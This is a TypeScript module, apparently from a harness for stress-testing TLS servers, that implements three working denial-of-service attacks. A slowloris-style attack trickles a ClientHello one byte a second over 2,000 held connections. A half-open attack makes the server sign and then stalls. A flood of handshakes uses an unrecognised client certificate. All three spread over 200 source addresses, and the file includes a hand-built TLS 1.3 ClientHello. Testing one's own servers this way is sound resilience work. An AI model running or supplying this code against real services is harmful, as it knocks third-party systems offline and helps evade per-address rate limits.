import { once } from 'node:events';
import type { Socket } from 'node:net';
import { connect } from 'node:tls';
import { attackerAddress, type DialOptions, dialTcp } from './attack-connection.ts';
import type { RunningAttack, Target } from './order.ts';
import { asFastAsPossible, repeat } from './repeat.ts';

/** More than any bound of connections that are not judged yet. */
const manyConnections = 2_000;
/** Addresses that these come from. */
const addresses = 200;

/** Each connection sends one byte of its ClientHello a second, and a new one takes the place of each that is closed. */
export function slowHandshakes(target: Target): Promise<RunningAttack> {
  return holdOpen(target, (socket, age) => {
    const byte = clientHello[age];
    if (byte !== undefined) socket.write(Uint8Array.of(byte));
  });
}

/** Each connection sends a whole ClientHello, has the server sign, and says no more. */
export function halfOpenHandshakes(target: Target): Promise<RunningAttack> {
  return holdOpen(target, (socket, age) => {
    if (age === 0) socket.write(clientHello);
  });
}

/** Handshakes with a certificate that no CA of the network has issued, as fast as this core makes them. */
export async function refusedHandshakes(target: Target): Promise<RunningAttack> {
  const { anchorPem, certificatePort, host, servername, unknownIdentity } = target;
  let made = 0;
  let index = 0;
  const running = asFastAsPossible(16, async () => {
    index += 1;
    const options: DialOptions = {
      host,
      port: certificatePort,
      servername,
      ca: anchorPem,
      localAddress: attackerAddress(index % addresses),
      cert: unknownIdentity.certificatePem,
      key: unknownIdentity.keyPem,
    };
    const socket = connect(options);
    socket.on('error', () => undefined);
    socket.resume();
    await once(socket, 'close').catch(() => undefined);
    made += 1;
  });
  return {
    stop() {
      running.stop();
      return `${made} handshakes with an unknown certificate`;
    },
  };
}

async function holdOpen(target: Target, each: (socket: Socket, age: number) => void): Promise<RunningAttack> {
  const ages = new Map<Socket, number>();
  let made = 0;
  const running = repeat(1_000, () => {
    while (ages.size < manyConnections) {
      made += 1;
      const socket = dialTcp(target, attackerAddress(made % addresses));
      ages.set(socket, 0);
      socket.resume();
      socket.on('close', () => ages.delete(socket));
    }
    for (const [socket, age] of ages) {
      if (!socket.writable) continue;
      each(socket, age);
      ages.set(socket, age + 1);
    }
  });
  return {
    stop() {
      running.stop();
      for (const socket of ages.keys()) socket.destroy();
      return `${made} connections, ${manyConnections} at a time`;
    },
  };
}

/** A ClientHello of TLS 1.3 with one X25519 share (RFC 8446 §4.1.2), as little as makes a server answer. */
const clientHello = helloOf();

function helloOf(): Buffer {
  const extension = (type: number, body: Buffer): Buffer =>
    Buffer.concat([u16(type), u16(body.length), body]);
  const share = Buffer.concat([u16(0x001d), u16(32), Buffer.alloc(32, 9)]);
  const extensions = Buffer.concat([
    extension(0x000a, Buffer.concat([u16(2), u16(0x001d)])),
    extension(0x000d, Buffer.concat([u16(4), u16(0x0403), u16(0x0804)])),
    extension(0x002b, Buffer.from([2, 3, 4])),
    extension(0x0033, Buffer.concat([u16(share.length), share])),
  ]);
  const body = Buffer.concat([
    u16(0x0303),
    Buffer.alloc(32, 7),
    Buffer.from([0]),
    u16(2),
    u16(0x1301),
    Buffer.from([1, 0]),
    u16(extensions.length),
    extensions,
  ]);
  const handshake = Buffer.concat([Buffer.from([1, 0]), u16(body.length), body]);
  return Buffer.concat([Buffer.from([22]), u16(0x0301), u16(handshake.length), handshake]);
}

function u16(value: number): Buffer {
  return Buffer.from([value >> 8, value & 0xff]);
}
